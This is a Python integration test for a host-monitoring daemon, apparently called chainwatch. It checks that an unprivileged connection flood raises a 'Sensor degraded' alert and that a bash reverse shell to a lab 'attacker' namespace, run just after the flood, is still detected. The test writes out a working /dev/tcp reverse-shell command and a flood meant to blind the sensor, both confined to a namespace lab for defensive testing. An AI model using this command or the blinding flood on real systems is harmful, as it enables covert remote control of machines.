"""No quiet blinding, against the real `chainwatch run` daemon: an unprivileged user who floods the sensor
raises a "Sensor degraded" alert (through the alert sinks, with counts and window), and a reverse shell right
after the flood still alerts. Traffic stays inside the netns lab."""

from __future__ import annotations

import json
import shutil
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from bench import workloads
from tests.helpers.live import require_netlab, require_root, require_tools
from tests.live.daemon import Daemon, read_lines

NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
FLOOD_S = 8.0
CONNECT_CHUNK = 20_000
SHELL_PAYLOAD = b"echo cw-$((6*7))\nexit\n"


def test_unprivileged_flood_raises_sensor_degraded_and_a_shell_after_it_still_alerts(tmp_path: Path) -> None:
    require_root("this test runs the real agent, which needs root")
    require_tools("gcc", "setpriv")
    require_netlab()
    from tests.helpers.netlab import NetLab

    # A directory the unprivileged user can reach (pytest's tmp_path is root-only).
    shared = Path(tempfile.mkdtemp(prefix="cw-degraded-"))
    shared.chmod(0o755)
    lab = NetLab()
    shell_port = lab.port()
    daemon: Daemon | None = None
    try:
        storm = workloads.build(shared)["connect_storm"]
        storm.chmod(0o755)
        home = tmp_path / "home"
        home.mkdir()
        # A one-page net ring: the flood must exceed what the agent reads, or there is nothing to report.
        daemon = Daemon(tmp_path, "[sensor]\nstats_interval_s = 1.0\nnet_ringbuf_pages = 1\n")
        daemon.wait_ready()
        listener = lab.listen_tcp(lab.attacker_ns, shell_port, payload=SHELL_PAYLOAD, duration=FLOOD_S + 60)
        argv = [*NOBODY, str(storm), str(CONNECT_CHUNK), lab.victim_ip4]
        assert lab.run(lab.victim_ns, ["id", "-u"], check=True).stdout.strip() == b"0"

        def flood(until: float) -> int:
            ops = 0
            while time.monotonic() < until:
                result = lab.run(lab.victim_ns, argv, timeout=120)
                assert result.returncode == 0, result.stderr.decode(errors="replace")
                ops += workloads.parse_report(result.stdout.decode()).ops
            return ops

        until = time.monotonic() + FLOOD_S
        with ThreadPoolExecutor(max_workers=2) as pool:
            ops = sum(f.result() for f in [pool.submit(flood, until) for _ in range(2)])
        assert ops > 0
        lab.run(
            lab.victim_ns,
            ["bash", "-c", f"bash -i >& /dev/tcp/{lab.attacker_ip4}/{shell_port} 0>&1; exit 0"],
            timeout=20,
            env={"HOME": str(home)},
        )
        assert b"cw-42" in listener.wait(timeout=20), "the reverse shell itself did not run"

        def alerts() -> list[dict]:
            return [json.loads(text) for text in read_lines(daemon.alerts)]

        def both() -> bool:
            got = alerts()
            return any(a["rule"]["name"] == "Sensor degraded" for a in got) and any(
                a.get("destination", {}).get("port") == shell_port for a in got
            )

        daemon.wait_until(both, "a Sensor degraded alert and the reverse shell's alert", 60.0)
        degraded = [a for a in alerts() if a["rule"]["name"] == "Sensor degraded"]
        first = degraded[0]
        assert first["event"]["kind"] == "alert" and first["event"]["severity"] == 73
        assert first["event"]["category"] == ["host"]
        sensor = first["chainwatch"]["sensor"]
        assert sensor["counts"].get("net_ringbuf_full", 0) > 0, sensor
        assert sensor["window"]["start"] <= sensor["window"]["end"]
        # At most one alert per interval: the flood is reported, not turned into an alert storm.
        assert len(degraded) <= 2, [a["chainwatch"]["sensor"] for a in degraded]
        shell = [a for a in alerts() if a.get("destination") == {"ip": lab.attacker_ip4, "port": shell_port}]
        assert shell and shell[-1]["process"]["executable"].endswith("bash")
    finally:
        if daemon is not None:
            daemon.stop()
        lab.close()
        shutil.rmtree(shared, ignore_errors=True)
